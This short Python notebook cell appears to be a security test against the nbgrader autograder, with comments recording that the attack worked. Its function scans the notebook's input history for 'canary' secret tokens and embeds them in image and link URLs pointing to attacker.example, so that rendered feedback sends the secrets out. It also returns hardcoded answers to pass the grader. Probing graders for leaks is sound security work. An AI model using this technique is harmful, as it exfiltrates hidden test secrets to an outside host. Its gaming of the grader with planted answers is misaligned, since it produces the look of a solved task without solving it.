# tries: a link and a picture in the feedback whose address holds the secret
# tells: argument
# worked: yes, tells (nbgrader 0.9.6 in one process)
# %% answer unmask
import re

from IPython.display import HTML, Markdown, display


def unmask(text):
    found = "".join(re.findall("canary[0-9a-f]{16}", " ".join(get_ipython().user_ns["In"])))
    display(HTML(f'<img src="http://attacker.example/{text}{found}"><a href="https://attacker.example/{text}{found}">x</a>'))
    display(Markdown(f"![x](http://attacker.example/{text}{found})"))
    return {"nopq": "abcd", "": "", "7": "7"}.get(text, "")
